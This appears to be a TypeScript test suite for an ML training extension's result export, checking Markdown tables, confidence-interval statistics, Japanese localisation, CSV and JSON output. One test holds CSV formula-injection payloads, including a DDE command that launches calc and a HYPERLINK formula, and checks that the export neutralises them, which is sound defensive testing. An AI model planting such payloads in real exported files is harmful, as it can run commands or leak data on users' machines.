import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { formatInterval, verdict } from '../../src/core/stats';
import { resultsFromHistory, toCsv, toJson, toMarkdown, type ExportMeta } from '../../src/extension/exportText';
import type { RunInfo, RunMessage, RunSummary, SamplerId } from '../../src/shared/protocol';
import { describeSeeds, settingsLine } from '../../src/shared/settingsText';
import { ENGLISH } from '../../src/shared/strings/l10n';
import { panelStrings } from '../../src/shared/strings/panel';
import { bundleL10n, englishWords } from '../support/japanese';

const EN = panelStrings(ENGLISH);
const JA = panelStrings(bundleL10n(JSON.parse(readFileSync(join(__dirname, '..', '..', '..', 'l10n', 'bundle.l10n.ja.json'), 'utf8')) as Record<string, string>));

const meta: ExportMeta = { extension: { name: 'minibatch-lab', version: '9.8.7' }, exportedAt: '2025-06-01T10:00:00.000Z' };

const info = (seeds: number[], extra: Partial<RunInfo> = {}): RunInfo => ({
	id: 7,
	settings: { iters: 120, batchSize: 100, lr: 0.1, hidden: 50, seed: seeds[0], trainSize: 6000 },
	samplers: ['replacement', 'epoch-shuffle'],
	seeds,
	dataset: 'MNIST (bundled)',
	datasetOrigin: 'bundled',
	lossStride: 1,
	startedAt: '2025-06-01T09:59:00.000Z',
	...extra,
});

function summary(sampler: SamplerId, seed: number, testAcc: number): RunSummary {
	return { sampler, seed, kernel: 'reference', finalTrainAcc: testAcc + 0.01, finalTestAcc: testAcc, bestTestAcc: testAcc, seconds: 2, meanCoverage: 1, duplicateBatches: 0, maxDraws: 1, finalLoss: 0.3 };
}

/** Final test accuracies by hand: replacement 0.90/0.92/0.94 (mean 0.92, sd 0.02), epoch-shuffle 0.91/0.925/0.95. */
const ACC: Record<SamplerId, number[]> = { replacement: [0.9, 0.92, 0.94], 'epoch-shuffle': [0.91, 0.925, 0.95], sequential: [] };

/** The stream the host sends for a 120-iteration run with evals at 0 and 60 (iter_per_epoch = 60), losses in chunks of 50. */
function history(seeds: number[], opts: { fail?: [SamplerId, number]; finish?: 'done' | 'cancelled' | false } = {}): RunMessage[] {
	const out: RunMessage[] = [{ type: 'runStarted', run: info(seeds) }];
	seeds.forEach((seed, k) => {
		for (const sampler of ['replacement', 'epoch-shuffle'] as const) {
			const final = ACC[sampler][k];
			// Out of order on purpose: the export sorts evals by iteration.
			out.push({ type: 'eval', runId: 7, sampler, seed, point: { iter: 60, epoch: 1, trainAcc: final + 0.01, testAcc: final } });
			out.push({ type: 'eval', runId: 7, sampler, seed, point: { iter: 0, epoch: 0, trainAcc: 0.1, testAcc: 0.1 } });
			for (let from = 0; from < 120; from += 50) {
				out.push({ type: 'loss', runId: 7, sampler, seed, fromIter: from, losses: Array.from({ length: Math.min(50, 120 - from) }, (_, i) => (from + i === 5 ? NaN : 2.3 - (from + i) / 100)) });
			}
			if (opts.fail?.[0] === sampler && opts.fail[1] === seed) out.push({ type: 'runFailed', runId: 7, sampler, seed, reason: 'out of memory' });
			else out.push({ type: 'runDone', runId: 7, seed, summary: summary(sampler, seed, final) });
		}
	});
	if (opts.finish !== false) out.push({ type: 'finished', runId: 7, state: opts.finish ?? 'done', seconds: 12.5 });
	return out;
}

/** The table rows of a Markdown export: the cells between the pipes. */
function tableOf(md: string): string[][] {
	return md
		.split('\n')
		.filter((l) => l.startsWith('|'))
		.map((l) =>
			l
				.slice(1, -1)
				.split('|')
				.map((c) => c.trim()),
		);
}

describe('export: results from the history', () => {
	it('rebuilds every (sampler, seed) run with sorted evals, per-iteration losses and the statistics', () => {
		const r = resultsFromHistory(history([0, 1, 2]))!;
		assert.equal(r.state, 'done');
		assert.equal(r.seconds, 12.5);
		assert.deepEqual(
			r.runs.map((x) => `${x.sampler}@${x.seed}`),
			['replacement@0', 'epoch-shuffle@0', 'replacement@1', 'epoch-shuffle@1', 'replacement@2', 'epoch-shuffle@2'],
		);
		const first = r.runs[0];
		assert.deepEqual(
			first.evals.map((e) => e.iter),
			[0, 60],
		);
		assert.equal(first.losses.length, 120);
		assert.equal(first.losses[5], null, 'a NaN loss is kept as null');
		assert.equal(first.losses[119], 2.3 - 1.19);
		assert.deepEqual(r.stats.samplers[0].seeds, [0, 1, 2]);
		assert.ok(Math.abs(r.stats.samplers[0].metrics.finalTestAcc.mean - 0.92) < 1e-12);
		assert.ok(Math.abs(r.stats.samplers[0].metrics.finalTestAcc.std! - 0.02) < 1e-12);
		assert.equal(r.stats.pairs.length, 1);
		assert.equal(`${r.stats.pairs[0].a} − ${r.stats.pairs[0].b}`, 'epoch-shuffle − replacement');
	});

	it('returns undefined without a run, and ignores messages of another run', () => {
		assert.equal(resultsFromHistory([]), undefined);
		const h = history([0]);
		h.push({ type: 'runDone', runId: 6, seed: 0, summary: summary('replacement', 0, 0.1) });
		assert.equal(resultsFromHistory(h)!.runs[0].summary?.finalTestAcc, 0.9);
	});

	it('marks runs without a result as cancelled once the run has ended, and as running before', () => {
		const cut = history([0, 1], { finish: false }).filter((m) => !(m.type === 'runDone' && m.seed === 1));
		assert.deepEqual(
			resultsFromHistory(cut)!.runs.map((x) => x.state),
			['done', 'done', 'running', 'running'],
		);
		const r = resultsFromHistory([...cut, { type: 'finished', runId: 7, state: 'cancelled', seconds: 1 }])!;
		assert.deepEqual(
			r.runs.map((x) => x.state),
			['done', 'done', 'cancelled', 'cancelled'],
		);
		assert.deepEqual(r.stats.samplers[0].excluded, [{ seed: 1, reason: 'cancelled' }]);
	});
});

describe('export: Markdown', () => {
	it("is the study group's table with mean ± std, N, the CI line, the verdict and the settings", () => {
		const r = resultsFromHistory(history([0, 1, 2]))!;
		const md = toMarkdown(r, EN, 'en', meta);
		const rows = tableOf(md);
		assert.deepEqual(rows[0], ['sampler', 'train accuracy', 'test accuracy']);
		assert.deepEqual(rows[1], ['---', '---:', '---:']);
		assert.deepEqual(rows[2], ['replacement', '0.9300 ± 0.0200', '0.9200 ± 0.0200']);
		// 0.91, 0.925, 0.95: mean 0.928333…, sd 0.020207…
		assert.deepEqual(rows[3], ['epoch-shuffle', '0.9383 ± 0.0202', '0.9283 ± 0.0202']);
		assert.equal(rows.length, 4);
		assert.match(md, /mean ± sample std over N = 3 of seeds 0–2/);
		// Differences 0.01, 0.005, 0.01: mean 0.008333, sd 0.0028868, t(0.975, 2) = 4.3027 → half width 0.0071711.
		const pair = r.stats.pairs[0];
		assert.ok(Math.abs(pair.ci!.low - (0.0083333333 - 0.0071711)) < 1e-6 && Math.abs(pair.ci!.high - (0.0083333333 + 0.0071711)) < 1e-6);
		const interval = formatInterval(pair.ci!.low, pair.ci!.high);
		assert.equal(interval, '(+0.0012, +0.0155)');
		assert.ok(md.includes(`epoch-shuffle − replacement, final test accuracy paired by seed: mean +0.0083, 95% CI ${interval}, N = 3.`), md);
		assert.ok(md.includes(verdict(pair, 'en')));
		assert.match(md, /epoch-shuffle scores higher than replacement at N = 3/);
		assert.ok(md.trimEnd().endsWith('Settings: TwoLayerNet 784-50-10 · 120 iterations · batch 100 · lr 0.1 · seeds 0–2 · 6000 training images · MNIST (bundled) · Minibatch Lab 9.8.7'), md);
	});

	it('in Japanese: the headings and sentences from the bundle, the verdict in Japanese, sampler ids as they are', () => {
		const h = history([0, 1, 2], { fail: ['epoch-shuffle', 1] });
		h[0] = { type: 'runStarted', run: info([0, 1, 2], { dataset: 'MNIST（同梱）' }) };
		const r = resultsFromHistory(h)!;
		const md = toMarkdown(r, JA, 'ja', meta);
		assert.deepEqual(tableOf(md)[0], [JA.markdown.sampler, JA.markdown.trainAccuracy, JA.markdown.testAccuracy]);
		assert.ok(md.includes(r.stats.pairs[0].verdict.ja));
		assert.ok(!md.includes(r.stats.pairs[0].verdict.en));
		assert.ok(md.includes(JA.markdown.settings.replace('{0}', 'TwoLayerNet 784-50-10 · ')), md);
		assert.deepEqual(englishWords(md, ['epoch-shuffle', 'replacement']), [], md);
	});

	it('with one seed: plain values, N = 1 and the verdict that asks for more seeds', () => {
		const md = toMarkdown(resultsFromHistory(history([4]))!, EN);
		const rows = tableOf(md);
		assert.deepEqual(rows[2], ['replacement', '0.9100', '0.9000']);
		assert.match(md, /seed 4 \(N = 1\)/);
		assert.match(md, /mean \+0\.0100, N = 1\./);
		assert.match(md, /No confidence interval at N = 1/);
	});

	it('leaves failed runs out and says so; N is given per sampler', () => {
		const md = toMarkdown(resultsFromHistory(history([0, 1, 2], { fail: ['epoch-shuffle', 1] }))!, EN);
		assert.match(md, /N = 3 \(replacement\), 2 \(epoch-shuffle\) of seeds 0–2/);
		assert.match(md, /Left out of the numbers: epoch-shuffle: seed 1 failed\./);
		assert.match(md, /N = 2\./);
	});

	it('escapes Markdown in the dataset label', () => {
		const h = history([0]);
		h[0] = { type: 'runStarted', run: info([0], { dataset: '/data/my*set|v_2 (minibatchLab.datasetPath)' }) };
		const md = toMarkdown(resultsFromHistory(h)!, EN);
		assert.ok(md.includes('/data/my\\*set\\|v\\_2 (minibatchLab.datasetPath)'), md);
		assert.equal(tableOf(md).length, 4, 'no extra table row from the | in the label');
	});

	it('describes seeds and settings as the panel header does', () => {
		assert.equal(describeSeeds([3], EN.run), 'seed 3');
		assert.equal(describeSeeds([3, 4, 5], EN.run), 'seeds 3–5');
		assert.equal(describeSeeds([1, 5], EN.run), 'seeds 1, 5');
		assert.equal(describeSeeds([3, 4, 5], JA.run), 'シード 3–5');
		assert.equal(settingsLine(info([0, 1]), EN.run), 'TwoLayerNet 784-50-10 · 120 iterations · batch 100 · lr 0.1 · seeds 0–1 · 6000 training images · MNIST (bundled)');
	});
});

describe('export: CSV', () => {
	it('has the settings, dataset and version in # lines, then one row per (sampler, seed, iteration)', () => {
		const csv = toCsv(resultsFromHistory(history([0, 1], { fail: ['replacement', 1] }))!, meta);
		const lines = csv.trimEnd().split('\n');
		const comments = lines.filter((l) => l.startsWith('#'));
		assert.match(comments[0], /Minibatch Lab 9\.8\.7 results, exported 2025-06-01T10:00:00\.000Z/);
		assert.match(comments.join('\n'), /iters_num=120 batch_size=100 learning_rate=0\.1 hidden_size=50 train_size=6000 seeds=0;1 samplers=replacement;epoch-shuffle/);
		assert.ok(comments.includes('# dataset,"MNIST (bundled) (bundled)"'), comments.join('\n'));
		assert.ok(comments.includes('# replacement seed 1,failed,"out of memory"'), comments.join('\n'));
		const data = lines.filter((l) => !l.startsWith('#'));
		assert.equal(data[0], 'sampler,seed,iteration,epoch,loss,train_acc,test_acc');
		assert.equal(data.length, 1 + 4 * 120);
		const rows = data.slice(1).map((l) => l.split(','));
		assert.ok(rows.every((r) => r.length === 7));
		const at = (sampler: string, seed: number, iter: number) => rows.find((r) => r[0] === sampler && r[1] === String(seed) && r[2] === String(iter))!;
		assert.deepEqual(at('epoch-shuffle', 1, 60), ['epoch-shuffle', '1', '60', '1', String(2.3 - 0.6), String(0.925 + 0.01), '0.925']);
		assert.deepEqual(at('replacement', 0, 5), ['replacement', '0', '5', String(5 / 60), '', '', ''], 'a NaN loss is an empty cell');
		assert.deepEqual(at('replacement', 0, 0).slice(3), ['0', '2.3', '0.1', '0.1']);
	});
});

/** RFC 4180 as a spreadsheet reads it: commas split cells, a cell that starts with a quote runs to its closing quote. */
function spreadsheetCells(csv: string): string[][] {
	return csv
		.trimEnd()
		.split('\n')
		.map((line) => {
			const cells: string[] = [];
			let i = 0;
			for (;;) {
				let cell = '';
				if (line[i] === '"') {
					for (i++; i < line.length; i++) {
						if (line[i] === '"' && line[i + 1] === '"') {
							cell += '"';
							i++;
						} else if (line[i] === '"') break;
						else cell += line[i];
					}
					i++;
				} else {
					const end = line.indexOf(',', i);
					cell = line.slice(i, end < 0 ? line.length : end);
					i = end < 0 ? line.length : end;
				}
				cells.push(cell);
				if (line[i] !== ',') return cells;
				i++;
			}
		});
}

describe('export: CSV from a hostile workspace', () => {
	it('keeps a dataset path and failure reasons in one quoted cell each, and no cell starts a formula', () => {
		const label = 'x,=HYPERLINK("https://example.com/?"&A1,"Fix")';
		const reasons = ['=cmd|\' /C calc\'!A0', '+1+1', '-2,@SUM(A1)', '@SUM(1)', 'a "quoted"\nline'];
		const msgs = history([0, 1, 2]);
		msgs[0] = { type: 'runStarted', run: info([0, 1, 2], { dataset: label, datasetOrigin: 'workspace' }) };
		const failed = msgs.filter((m) => m.type === 'runDone').slice(0, reasons.length);
		reasons.forEach((reason, k) => {
			const m = failed[k] as Extract<RunMessage, { type: 'runDone' }>;
			msgs.splice(msgs.indexOf(m), 1, { type: 'runFailed', runId: 7, sampler: m.summary.sampler, seed: m.seed, reason });
		});
		const cells = spreadsheetCells(toCsv(resultsFromHistory(msgs)!, meta));
		const formulas = cells.flat().filter((c) => /^[=+\-@]/.test(c));
		assert.deepEqual(formulas, [], 'a cell a spreadsheet would run as a formula');
		const text = cells.filter((row) => row[0].startsWith('#')).map((row) => row.slice(1));
		assert.ok(text.some((row) => row[0] === `${label} (workspace)`), 'the dataset path in one cell, as it is');
		for (const reason of reasons) {
			const shown = reason.replace(/\n/g, ' ');
			assert.ok(text.some((row) => row.at(-1) === shown || row.at(-1) === `'${shown}`), `the reason ${JSON.stringify(reason)} in one cell`);
		}
	});
});

describe('export: JSON', () => {
	it('holds the metadata, settings, statistics and every curve', () => {
		const doc = JSON.parse(toJson(resultsFromHistory(history([0, 1, 2]))!, meta));
		assert.equal(doc.format, 'minibatch-lab-results');
		assert.deepEqual(doc.extension, { name: 'minibatch-lab', version: '9.8.7' });
		assert.equal(doc.run.state, 'done');
		assert.deepEqual(doc.run.seeds, [0, 1, 2]);
		assert.equal(doc.run.settings.trainSize, 6000);
		assert.deepEqual(doc.run.book, { iters_num: 120, batch_size: 100, learning_rate: 0.1, hidden_size: 50, train_size: 6000 });
		assert.deepEqual(doc.run.dataset, { label: 'MNIST (bundled)', origin: 'bundled' });
		assert.equal(doc.runs.length, 6);
		assert.equal(doc.runs[3].sampler, 'epoch-shuffle');
		assert.equal(doc.runs[3].seed, 1);
		assert.equal(doc.runs[3].losses.length, 120);
		assert.equal(doc.runs[3].losses[5], null);
		assert.deepEqual(doc.runs[3].evals[1], { iter: 60, epoch: 1, trainAcc: 0.935, testAcc: 0.925 });
		assert.equal(doc.runs[3].summary.finalTestAcc, 0.925);
		assert.equal(doc.stats.pairs[0].n, 3);
		assert.equal(doc.stats.pairs[0].verdict.en, verdict(doc.stats.pairs[0], 'en'));
	});
});
